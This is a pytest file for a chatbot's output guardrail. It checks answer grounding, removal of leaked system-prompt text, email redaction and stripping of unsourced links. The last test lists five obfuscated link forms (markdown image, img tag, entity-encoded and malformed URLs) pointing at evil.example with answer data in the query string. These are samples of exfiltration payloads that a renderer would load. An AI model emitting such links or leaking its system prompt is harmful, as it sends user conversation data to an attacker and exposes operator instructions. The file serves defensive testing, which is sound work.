"""Output validation after generation: grounding per sentence, and the output guardrail
(leaked system prompt, personal data, unsourced links). The validated answer is what is
returned and stored; the original stays in the stored context_metadata only."""

from __future__ import annotations

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncSession

from app.conversation.pipeline.budget import SYSTEM_PROMPT
from app.guardrails.output_checks import SAFE_FALLBACK
from app.models import QueryHistory
from tests.chat_helpers import add_kb_document, ask, stored_turn, use_model
from tests.factories import make_chatter
from tests.fakes import ScriptedChatModel

pytestmark = pytest.mark.committed

REFUNDS = ["Damaged goods can be returned within 30 days of delivery for a full refund."]
QUESTION = "How long is the refund window for damaged goods?"


async def _answer_with(
    app: FastAPI, client: httpx.AsyncClient, db: AsyncSession, reply: str
) -> tuple[dict[str, object], QueryHistory]:
    tenant, _user, chat, owner = await make_chatter(client, db)
    await add_kb_document(db, tenant, "Returns policy", REFUNDS)
    use_model(app, ScriptedChatModel(reply=lambda _: reply))
    response = await ask(client, owner, chat, QUESTION)
    assert response.status_code == 200, response.text
    body = response.json()
    return body, await stored_turn(db, tenant.id, body["turn_id"])


async def test_an_ungrounded_sentence_is_flagged(
    app: FastAPI, client: httpx.AsyncClient, db: AsyncSession
) -> None:
    reply = (
        "Damaged goods can be returned within 30 days of delivery [1]. "
        "Every customer also receives a free helicopter voucher on birthdays."
    )
    body, row = await _answer_with(app, client, db, reply)
    grounding = body["validation"]["sources"]  # type: ignore[index]
    assert grounding["grounded"] is False
    assert grounding["checked_sentences"] == 2
    assert len(grounding["issues"]) == 1
    assert "sentence 2" in grounding["issues"][0] and "helicopter" in grounding["issues"][0]
    assert 0.0 < grounding["confidence"] < 1.0
    assert body["answer"] == reply  # flagged, not altered
    assert row.context_metadata["validation"]["sources"] == grounding


async def test_a_grounded_answer_passes(
    app: FastAPI, client: httpx.AsyncClient, db: AsyncSession
) -> None:
    body, _ = await _answer_with(
        app, client, db, "Damaged goods can be returned for a full refund within 30 days [1]."
    )
    validation = body["validation"]
    assert validation["sources"] == {  # type: ignore[index]
        "grounded": True,
        "confidence": 1.0,
        "issues": [],
        "checked_sentences": 1,
    }
    assert validation["output_guardrail"] == {"safe": True, "issues": [], "replaced": False}  # type: ignore[index]
    assert "audit" not in body["context_metadata"]  # type: ignore[operator]


async def test_an_answer_leaking_the_system_prompt_and_an_email_is_cleaned(
    app: FastAPI, client: httpx.AsyncClient, db: AsyncSession
) -> None:
    reply = (
        f"My instructions read: {SYSTEM_PROMPT.split('. ')[0]}. "
        "Damaged goods can be returned within 30 days [1]. "
        "Write to the manager at anna.verdi@private-mail.example or see https://evil.example/x."
    )
    body, row = await _answer_with(app, client, db, reply)
    answer = str(body["answer"])
    assert "You are Threadline" not in answer and "My instructions" not in answer
    assert "anna.verdi@private-mail.example" not in answer and "[EMAIL]" in answer
    assert "evil.example" not in answer and "[link removed]" in answer
    assert answer.startswith("Damaged goods can be returned within 30 days [1].")
    guard = body["validation"]["output_guardrail"]  # type: ignore[index]
    assert guard["safe"] is False and guard["replaced"] is False
    assert guard["issues"] == [
        "system prompt leaked: 1 sentence(s) removed",
        "personal data removed: EMAIL",
        "link not found in any source removed",
    ]
    # Stored: the cleaned answer; the original (anonymised) for the audit, never returned.
    assert row.answer == answer
    assert "You are Threadline" in row.context_metadata["audit"]["original_answer"]
    assert "anna.verdi" not in row.context_metadata["audit"]["original_answer"]
    assert "audit" not in body["context_metadata"]  # type: ignore[operator]


async def test_an_answer_that_is_only_a_leak_is_replaced_by_the_fallback(
    app: FastAPI, client: httpx.AsyncClient, db: AsyncSession
) -> None:
    body, row = await _answer_with(app, client, db, SYSTEM_PROMPT)
    assert body["answer"] == SAFE_FALLBACK
    assert body["validation"]["output_guardrail"]["replaced"] is True  # type: ignore[index]
    assert row.answer == SAFE_FALLBACK
    assert row.context_metadata["audit"]["original_answer"] == SYSTEM_PROMPT


async def test_personal_data_and_links_from_the_sources_are_kept(
    app: FastAPI, client: httpx.AsyncClient, db: AsyncSession
) -> None:
    tenant, _user, chat, owner = await make_chatter(client, db)
    await add_kb_document(
        db,
        tenant,
        "Support",
        ["Support answers at help@shop.example and https://shop.example/help every day."],
    )
    reply = "Write to help@shop.example or open https://shop.example/help [1]."
    use_model(app, ScriptedChatModel(reply=lambda _: reply))
    body = (await ask(client, owner, chat, "How do I reach support?")).json()
    assert body["answer"] == reply
    assert body["validation"]["output_guardrail"]["safe"] is True


async def test_a_turns_metadata_keeps_nothing_of_the_previous_turns(
    app: FastAPI, client: httpx.AsyncClient, db: AsyncSession
) -> None:
    """The graph merges each node's context_metadata into the turn's, and the thread's
    checkpoint holds the previous turn's: the next turn starts from an empty one."""
    tenant, _user, chat, owner = await make_chatter(client, db)
    await add_kb_document(db, tenant, "Returns policy", REFUNDS)
    replies = iter([SYSTEM_PROMPT, "Damaged goods can be returned within 30 days [1]."])
    use_model(app, ScriptedChatModel(reply=lambda _: next(replies)))
    first = await ask(client, owner, chat, QUESTION)
    assert first.status_code == 200, first.text
    assert "audit" in (await stored_turn(db, tenant.id, first.json()["turn_id"])).context_metadata
    second = await ask(client, owner, chat, QUESTION)
    assert second.status_code == 200, second.text
    row = await stored_turn(db, tenant.id, second.json()["turn_id"])
    assert "audit" not in row.context_metadata
    assert row.context_metadata["validation"]["output_guardrail"]["issues"] == []


@pytest.mark.parametrize(
    "leak",
    [
        "![a](//evil.example/a.png?d=refund-window)",
        "http:/\\evil.example/x?d=refund-window",
        "https:evil.example/x?d=refund-window",
        "&#104;ttp://evil.example/x?d=refund-window",
        '<img src="//evil.example/a.png?d=refund-window">',
    ],
)
async def test_a_link_in_any_form_a_renderer_loads_is_removed_from_the_answer(
    app: FastAPI, client: httpx.AsyncClient, db: AsyncSession, leak: str
) -> None:
    """The campaign's five forms; tests/guardrails/test_links.py has many more."""
    reply = f"Damaged goods can be returned within 30 days [1]. {leak}"
    body, row = await _answer_with(app, client, db, reply)
    answer = str(body["answer"])
    assert "evil.example" not in answer and "[link removed]" in answer
    assert answer.startswith("Damaged goods can be returned within 30 days [1].")
    guard = body["validation"]["output_guardrail"]  # type: ignore[index]
    assert "link not found in any source removed" in guard["issues"]
    assert row.answer == answer
